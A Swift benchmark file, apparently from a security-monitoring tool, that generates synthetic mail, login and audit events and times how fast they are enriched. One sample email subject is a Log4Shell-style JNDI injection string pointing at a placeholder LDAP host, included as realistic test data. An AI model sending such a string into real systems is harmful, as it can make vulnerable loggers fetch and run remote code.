import Foundation
import OspreyCore
import OspreyEnrichment

/// Measures enrichment cost per event on generated events (a mix of outbound and inbound mail, logins and
/// audit events over a pool of users, source IPs and recipient domains).
enum EnrichmentBenchmark {
    struct Result: Sendable, CustomStringConvertible {
        var events: Int
        /// First pass over the events: caches cold.
        var coldNanosPerEvent: Double
        /// Later passes: caches warm (the steady state of a long run).
        var warmNanosPerEvent: Double
        /// The same loop setting one field per event instead of enriching (copying the event's field arrays
        /// on first write): subtract it for the cost of enrichment alone.
        var baselineNanosPerEvent: Double
        var stats: EnrichmentStats
        var description: String {
            String(format: "%d events: %.0f ns/event cold, %.0f ns/event warm (loop baseline %.0f ns/event)",
                   events, coldNanosPerEvent, warmNanosPerEvent, baselineNanosPerEvent)
                + "; \(stats)"
        }
    }

    /// Generates `count` events. Users are taken from the context (plus 10% unknown users), source IPs from
    /// a pool of `distinctIPs` public IPv4 and IPv6 addresses, recipients from `distinctDomains` domains.
    static func events(count: Int, context: Context, distinctIPs: Int = 5_000, distinctDomains: Int = 2_000,
                              seed: UInt64 = 42) -> [Event] {
        var rng = SplitMix64(state: seed)
        let users = context.users.users.map(\.id)
        let knownUsers = users.isEmpty ? (0..<500).map { "user\($0)@example.com" } : users
        let ips: [String] = (0..<distinctIPs).map { i in
            if i % 10 == 9 { return "2a0\(rng.next() % 9 + 1):\(String(rng.next() % 0xFFFF, radix: 16))::\(String(rng.next() % 0xFFFF, radix: 16))" }
            return "\(rng.next() % 223 + 1).\(rng.next() % 256).\(rng.next() % 256).\(rng.next() % 256)"
        }
        let webmail = ["gmail.com", "outlook.com", "yahoo.co.uk", "gmx.de", "proton.me", "mailinator.com"]
        let domains: [String] = (0..<distinctDomains).map { i in
            if i < webmail.count { return webmail[i] }
            let tlds = ["com", "de", "co.uk", "fr", "io", "net", "com.au", "jp"]
            return "partner\(i).\(tlds[i % tlds.count])"
        }
        let company = context.companyDomains.exact.sorted().first ?? "example.com"
        let subjects = ["Quarterly report", "RE: lunch?", "Invoice 4711 overdue", "My CV and cover letter",
                        "FW: project plan", "salary review", "Meeting notes", "Wire transfer request - urgent",
                        "hello ${jndi:ldap://x.example/a}", "Status update for the week of the big launch"]
        let attachments = ["report.pdf", "budget.xlsx", "main.py", "Confidential_Plan.docx", "photo.jpg", "notes.txt"]
        let userAgents = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
                          "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17029; Pro)", "okhttp/4.9.3"]
        var out: [Event] = []
        out.reserveCapacity(count)
        let t0 = UTCTime.parse("2024-05-01T00:00:00Z")!
        for i in 0..<count {
            let r = rng.next() % 100
            let user = rng.next() % 10 == 0 ? "stranger\(rng.next() % 1000)@\(company)" : knownUsers[Int(rng.next() % UInt64(knownUsers.count))]
            let ip = ips[Int(rng.next() % UInt64(ips.count))]
            let time = t0 + Int64(i) * 1000
            var e: Event
            if r < 40 {
                e = Event(parser: "bench", activityType: .emailOut, timeMillis: time)
                let d = domains[Int(rng.next() % UInt64(domains.count))]
                e[F.user] = .string(user); e[F.sender] = .string(user); e[F.senderDomain] = .string(company)
                e[F.destEmailAddress] = .string("someone@" + d); e[F.destDomain] = .string(d)
                e[F.emailSubject] = .string(subjects[Int(rng.next() % UInt64(subjects.count))])
                e[F.emailAttachments] = .list([attachments[Int(rng.next() % UInt64(attachments.count))]])
                e[F.srcIP] = .string(ip); e[F.direction] = .string("outbound"); e[F.bytes] = .int(Int64(rng.next() % 1_000_000))
                if rng.next() % 2 == 0 { e[F.destIP] = .string(ips[Int(rng.next() % UInt64(ips.count))]) }
            } else if r < 60 {
                e = Event(parser: "bench", activityType: .emailIn, timeMillis: time)
                let d = domains[Int(rng.next() % UInt64(domains.count))]
                e[F.user] = .string(user); e[F.sender] = .string("someone@" + d); e[F.senderDomain] = .string(d)
                e[F.destEmailAddress] = .string(user); e[F.destDomain] = .string(company)
                e[F.emailSubject] = .string(subjects[Int(rng.next() % UInt64(subjects.count))])
                e[F.srcIP] = .string(ip); e[F.direction] = .string("inbound")
            } else if r < 85 {
                e = Event(parser: "bench", activityType: rng.next() % 10 == 0 ? .failedAppLogin : .appLogin, timeMillis: time)
                e[F.user] = .string(user); e[F.srcIP] = .string(ip); e[F.app] = .string("Administration Console")
                e[Field.named("user_agent")] = .string(userAgents[Int(rng.next() % UInt64(userAgents.count))])
            } else {
                e = Event(parser: "bench", activityType: .appActivity, timeMillis: time)
                e[F.user] = .string(user); e[F.srcIP] = .string(ip); e[F.operation] = .string("Mailbox permission granted")
                e[F.destEmailAddress] = .string(knownUsers[Int(rng.next() % UInt64(knownUsers.count))])
                e[F.additionalInfo] = .string("Granted FullAccess on mailbox; rule: forward invoices to external address")
            }
            out.append(e)
        }
        return out
    }

    /// Enriches `events` once cold and `warmPasses` more times warm; returns thread CPU ns/event for both.
    static func run(context: Context, events: [Event], warmPasses: Int = 3) -> Result {
        let enricher = Enricher(context: context)
        let marker = Field.named("bench_marker")
        var sink = 0
        // Streaming, like the pipeline: each event is enriched, handed on (its field count read) and freed,
        // so memory is reused rather than 200k enriched events piling up.
        func pass(baseline: Bool = false) -> Double {
            let start = threadCPUNanos()
            if baseline {
                for ev in events { var e = ev; e[marker] = .bool(true); sink &+= e.fieldCount }
            } else {
                for ev in events { var e = ev; enricher.enrich(&e); sink &+= e.fieldCount }
            }
            let end = threadCPUNanos()
            return Double(end - start) / Double(max(1, events.count))
        }
        let cold = pass()
        var warm = Double.infinity
        for _ in 0..<max(1, warmPasses) { warm = min(warm, pass()) }
        var base = Double.infinity
        for _ in 0..<2 { base = min(base, pass(baseline: true)) }
        precondition(sink > 0)
        return Result(events: events.count, coldNanosPerEvent: cold, warmNanosPerEvent: warm, baselineNanosPerEvent: base,
                      stats: enricher.stats)
    }

    /// Generates `count` events and runs the benchmark.
    static func benchmark(context: Context, count: Int = 200_000, distinctIPs: Int = 5_000) -> Result {
        run(context: context, events: events(count: count, context: context, distinctIPs: distinctIPs))
    }
}

/// CPU time of the calling thread: unlike wall time, not inflated when other processes share the cores.
func threadCPUNanos() -> UInt64 {
    var ts = timespec()
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts)
    return UInt64(ts.tv_sec) * 1_000_000_000 + UInt64(ts.tv_nsec)
}

